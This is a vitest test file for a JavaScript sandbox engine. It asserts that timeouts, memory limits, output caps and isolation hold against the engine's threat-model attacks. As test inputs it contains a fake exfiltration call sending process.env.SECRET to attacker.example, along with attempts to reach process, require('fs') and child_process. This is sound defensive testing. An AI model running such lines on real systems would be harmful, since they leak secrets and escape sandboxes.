// The seed's "Security Test Coverage" table and every attack row of its threat model, each
// followed by a fresh execution on the same engine that must succeed.
import { afterAll, describe, expect, it } from 'vitest';
import { SandboxEngine } from '../src/index.ts';
import { collect, expectError, expectHealthy, expectResult } from './helpers.ts';

const engine = new SandboxEngine({
  limits: { timeoutMs: 1_000 },
  dataHandler: () => ({ rows: [1, 2, 3] }),
});
const engines = {
  process: engine,
  'in-process': new SandboxEngine({
    isolation: 'in-process',
    limits: { timeoutMs: 1_000 },
    dataHandler: () => ({ rows: [1, 2, 3] }),
  }),
};
afterAll(() => Promise.all(Object.values(engines).map((each) => each.dispose())));

async function payloadOf(code: string): Promise<unknown> {
  return expectResult(await engine.run({ code })).payload;
}

describe.each(['process', 'in-process'] as const)('seed security test coverage (%s)', (mode) => {
  const subject = engines[mode];
  it('infinite loop: while (true) {} ends with TIMEOUT', async () => {
    const started = performance.now();
    const event = expectError(await subject.run({ code: 'while (true) {}' }), 'TIMEOUT');
    expect(event.details).toEqual({ timeoutMs: 1_000 });
    expect(performance.now() - started).toBeLessThan(5_000);
    await expectHealthy(subject);
  });

  it('isolate crash recovery: a crashing execution is followed by a normal one', async () => {
    expectError(await subject.run({ code: 'throw new Error("boom")' }), 'RUNTIME');
    expectError(
      await subject.run({
        code: 'const a = []; while (true) a.push(new Array(1e6));',
        limits: { memoryMb: 8 },
      }),
      'OOM',
    );
    await expectHealthy(subject);
  });

  it('memory bomb: arrays in a loop under memoryMb 8 end with OOM', async () => {
    const event = await subject.run({
      code: 'const a = []; while (true) { a.push(new Array(1_000_000)); }',
      limits: { memoryMb: 8 },
    });
    expect(expectError(event, 'OOM').details).toEqual({ memoryMb: 8 });
    await expectHealthy(subject);
  });

  it.each([
    ['fetch', 'return typeof fetch'],
    ['process', 'return typeof process'],
    ['require', 'return typeof require'],
    ['Function-constructor escape', "return new Function('return typeof process')()"],
  ])('%s is not available', async (_name, code) => {
    expect(expectResult(await subject.run({ code })).payload).toBe('undefined');
    await expectHealthy(subject);
  });

  it('oversized code: a 600 000-byte source ends with VALIDATION before V8 sees it', async () => {
    const code = `return 1; //${'x'.repeat(600_000 - 12)}`;
    expect(code.length).toBe(600_000);
    const event = expectError(await subject.run({ code }), 'VALIDATION');
    expect(event.details).toMatchObject({ field: 'maxCodeBytes', limit: 524_288, size: 600_000 });
    expect(event.stats).toBeUndefined();
    await expectHealthy(subject);
  });

  it('maxResultBytes: a 10 MB string against 5 MB ends with a VALIDATION event', async () => {
    const event = expectError(
      await subject.run({ code: "return 'x'.repeat(10 * 1024 * 1024)" }),
      'VALIDATION',
    );
    expect(event.details).toEqual({
      field: 'maxResultBytes',
      limit: 5_242_880,
      size: 10 * 1024 * 1024 + 2,
    });
    await expectHealthy(subject);
  });

  it('maxStatusEvents: 1 500 reportStatus calls with a limit of 100 give 100 events and a result', async () => {
    const events = await collect(
      subject.submit({
        code: 'for (let i = 0; i < 1500; i++) reportStatus("s" + i); return "done"',
        limits: { maxStatusEvents: 100 },
      }),
    );
    const statuses = events.filter((event) => event.type === 'status');
    expect(statuses).toHaveLength(100);
    const result = expectResult(events.at(-1) as never);
    expect(result.payload).toBe('done');
    expect(result.stats).toMatchObject({ statusEvents: 100, statusDropped: 1_400 });
    await expectHealthy(subject);
  });

  it('console cap: 2 000 console.log calls give at most 1 000 events, no crash, a result', async () => {
    const events = await collect(
      subject.submit({
        code: 'for (let i = 0; i < 2000; i++) console.log(i); return "done"',
        limits: { maxStatusEvents: 5_000 },
      }),
    );
    const statuses = events.filter((event) => event.type === 'status');
    expect(statuses).toHaveLength(1_000);
    expect(statuses[999]).toEqual({
      type: 'status',
      source: 'console',
      level: 'info',
      message: '999',
    });
    const result = expectResult(events.at(-1) as never);
    expect(result.stats).toMatchObject({ statusEvents: 1_000, statusDropped: 1_000 });
    await expectHealthy(subject);
  });
});

describe('threat model attacks', () => {
  it('network exfiltration: fetch is absent, so the attempt is a RUNTIME error', async () => {
    const event = expectError(
      await engine.run({
        code: "await fetch('https://attacker.example?d=' + process.env.SECRET)",
      }),
      'RUNTIME',
    );
    expect(event.message).toBe('ReferenceError: fetch is not defined');
    expect(
      await payloadOf('return [typeof XMLHttpRequest, typeof WebSocket, typeof navigator]'),
    ).toEqual(['undefined', 'undefined', 'undefined']);
    await expectHealthy(engine);
  });

  it.each([
    ['process.env', 'return process.env.SECRET'],
    ['process.exit()', 'process.exit(1)'],
    ['process.mainModule', 'return process.mainModule'],
  ])('host process access: %s is a ReferenceError', async (_name, code) => {
    const event = expectError(await engine.run({ code }), 'RUNTIME');
    expect(event.message).toBe('ReferenceError: process is not defined');
    await expectHealthy(engine);
  });

  it('module escape: require and dynamic import fail inside the isolate', async () => {
    const required = expectError(await engine.run({ code: "return require('fs')" }), 'RUNTIME');
    expect(required.message).toBe('ReferenceError: require is not defined');
    const imported = await engine.run({
      code: "try { await import('child_process'); return 'imported'; } catch (e) { return 'refused: ' + e.name; }",
    });
    expect(expectResult(imported).payload).toMatch(/^refused: /);
    await expectHealthy(engine);
  });

  it('Function-constructor escape reaches only the isolate global', async () => {
    const payload = await payloadOf(`
      const g = new Function('return this')();
      const viaConstructor = await dataProxy.request.constructor('return typeof process')();
      return [typeof g.process, typeof g.require, viaConstructor, g === globalThis];
    `);
    expect(payload).toEqual(['undefined', 'undefined', 'undefined', true]);
    await expectHealthy(engine);
  });

  it('asynchronous CPU exhaustion: an await loop ends with TIMEOUT', async () => {
    expectError(await engine.run({ code: 'while (true) { await Promise.resolve(); }' }), 'TIMEOUT');
    await expectHealthy(engine);
  });

  it('a promise that never settles ends with TIMEOUT (external timer)', async () => {
    expectError(await engine.run({ code: 'await new Promise(() => {})' }), 'TIMEOUT');
    await expectHealthy(engine);
  });

  it('request amplification: dataProxy.request in a loop ends with LIMIT_EXCEEDED at call 21', async () => {
    const event = expectError(
      await engine.run({
        code: 'for (let i = 0; i < 10_000; i++) await dataProxy.request({ i }); return 1',
      }),
      'LIMIT_EXCEEDED',
    );
    expect(event.details).toEqual({ field: 'maxDataRequests', limit: 20, size: 21 });
    // Call 21 ends the execution in the isolate: it never reaches the host.
    expect(event.stats?.dataRequests).toBe(20);
    await expectHealthy(engine);
  });

  it('result flooding: 100 MiB of result ends with VALIDATION', async () => {
    const event = expectError(
      await engine.run({
        code: "return 'x'.repeat(100 * 1024 * 1024)",
        limits: { memoryMb: 512, timeoutMs: 10_000 },
      }),
      'VALIDATION',
    );
    expect(event.details).toMatchObject({ field: 'maxResultBytes', limit: 5_242_880 });
    await expectHealthy(engine);
  });

  it('console spam: an endless console.log loop is capped, then times out', async () => {
    const events = await collect(
      engine.submit({ code: 'for (let i = 0; i < 1e9; i++) console.log(i)' }),
    );
    expect(events.filter((event) => event.type === 'status')).toHaveLength(1_000);
    expectError(events.at(-1) as never, 'TIMEOUT');
    await expectHealthy(engine);
  });

  it('code inflation: megabytes of source are refused with VALIDATION', async () => {
    const event = expectError(
      await engine.run({ code: 'x'.repeat(8 * 1024 * 1024) }),
      'VALIDATION',
    );
    expect(event.details).toMatchObject({ field: 'maxCodeBytes', limit: 524_288 });
    await expectHealthy(engine);
  });

  it('ephemeral isolates: a global set by one execution is gone in the next', async () => {
    expect(
      await payloadOf('globalThis.leftover = "stale"; Object.prototype.polluted = 1; return 1'),
    ).toBe(1);
    expect(await payloadOf('return [typeof globalThis.leftover, typeof ({}).polluted]')).toEqual([
      'undefined',
      'undefined',
    ]);
  });
});
